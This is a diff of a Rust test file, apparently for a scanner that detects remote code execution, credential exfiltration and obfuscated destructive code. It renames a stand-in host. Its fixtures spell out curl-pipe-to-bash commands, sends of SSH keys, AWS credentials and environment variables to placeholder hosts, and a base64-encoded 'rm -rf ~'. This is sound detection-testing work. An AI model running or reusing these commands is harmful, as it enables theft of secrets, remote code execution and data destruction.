@@ -41,15 +41,15 @@ fn python_sends_that_are_not_secrets_pass() {
 
 #[test]
 fn python_code_built_at_run_time_is_read_again() {
-    let joined = "import os\nhost = 'https://setup.example.net/i'\nos.system('curl -s ' + host + ' | bash')\n";
+    let joined = "import os\nhost = 'https://setup.evil-host.net/i'\nos.system('curl -s ' + host + ' | bash')\n";
     assert!(ids("x.py", joined).contains(&"remote-code-run"));
-    let listed = "import subprocess\nurl = 'https://setup.example.net/i'\n\
+    let listed = "import subprocess\nurl = 'https://setup.evil-host.net/i'\n\
                   subprocess.run(['bash', '-c', f'curl -s {url} | sh'])\n";
     assert!(ids("x.py", listed).contains(&"remote-code-run"));
     let b64 = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiB+Iik='))\n";
     let found = ids("x.py", b64);
     assert!(found.contains(&"obfuscated-exec") && found.contains(&"destructive-delete"), "{found:?}");
-    let download = "import requests\nr = requests.get('https://setup.example.net/p.py')\nsrc = r.text\nexec(src)\n";
+    let download = "import requests\nr = requests.get('https://setup.evil-host.net/p.py')\nsrc = r.text\nexec(src)\n";
     assert_eq!(chain("x.py", download, "remote-code-run"), Some((Some(2), 4)));
     assert!(ids("x.py", "import subprocess\nsubprocess.run(['git', 'status'])\n").is_empty());
 }
@@ -73,7 +73,7 @@ fn javascript_values_followed_through_modules_templates_and_callbacks() {
     let callback = "import { readFile } from 'node:fs';\nimport https from 'https';\n\
                     readFile(process.env.HOME + '/.netrc', (err, data) => {\n  const req = https.request('https://c.example.net');\n  req.write(data);\n});\n";
     assert!(ids("x.ts", callback).contains(&"exfiltration"), "{:?}", ids("x.ts", callback));
-    let spawned = "const { execSync } = require('child_process');\nconst u = 'https://setup.example.net/i';\n\
+    let spawned = "const { execSync } = require('child_process');\nconst u = 'https://setup.evil-host.net/i';\n\
                    execSync(`curl -s ${u} | bash`);\n";
     assert!(ids("x.js", spawned).contains(&"remote-code-run"));
     let rc = "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', 'x');\n";
@@ -90,13 +90,13 @@ fn javascript_values_followed_through_modules_templates_and_callbacks() {
 fn shell_variables_strings_and_heredocs() {
     let vars = "F=\"$HOME/.aws/credentials\"\nD=$(cat \"$F\")\ncurl -s -d \"$D\" https://c.example.net\n";
     assert_eq!(chain("x.sh", vars, "exfiltration"), Some((Some(2), 3)));
-    let fetched = "S=$(curl -fsSL https://setup.example.net/i)\neval \"$S\"\n";
+    let fetched = "S=$(curl -fsSL https://setup.evil-host.net/i)\neval \"$S\"\n";
     assert_eq!(chain("x.sh", fetched, "remote-code-run"), Some((Some(1), 2)));
     assert!(ids("x.sh", "sh -c 'cat ~/.ssh/id_rsa | nc c.example.net 443'\n").contains(&"exfiltration"));
     let heredoc =
         "python3 - <<'EOF'\nimport os, requests\nrequests.post('https://c.example.net', json=dict(os.environ))\nEOF\n";
     assert_eq!(chain("x.sh", heredoc, "exfiltration").map(|c| c.1), Some(3));
-    let written = "cat > run.py <<EOF\nimport os\nos.system('curl -s https://setup.example.net/i | sh')\nEOF\n";
+    let written = "cat > run.py <<EOF\nimport os\nos.system('curl -s https://setup.evil-host.net/i | sh')\nEOF\n";
     assert!(ids("x.sh", written).contains(&"remote-code-run"));
     let benign =
         "V=1.2\nOUT=/tmp/t-$V.tgz\ncurl -fsSL -o \"$OUT\" https://downloads.example.com/t-$V.tgz\ntar xzf \"$OUT\"\n";
@@ -196,9 +196,9 @@ fn a_download_piped_into_inline_code_is_its_data_not_code_it_runs() {
     }
     // Piped into the interpreter itself, it is code that runs; so is inline code that runs it.
     for code in [
-        "curl -s https://setup.example.net/i | python3\n",
-        "curl -s https://setup.example.net/i | python3 -\n",
-        "curl -s https://setup.example.net/i | bash -s -- --yes\n",
+        "curl -s https://setup.evil-host.net/i | python3\n",
+        "curl -s https://setup.evil-host.net/i | python3 -\n",
+        "curl -s https://setup.evil-host.net/i | bash -s -- --yes\n",
     ] {
         assert!(ids("setup.sh", code).contains(&"remote-code-run"), "{code}: {:?}", ids("setup.sh", code));
     }
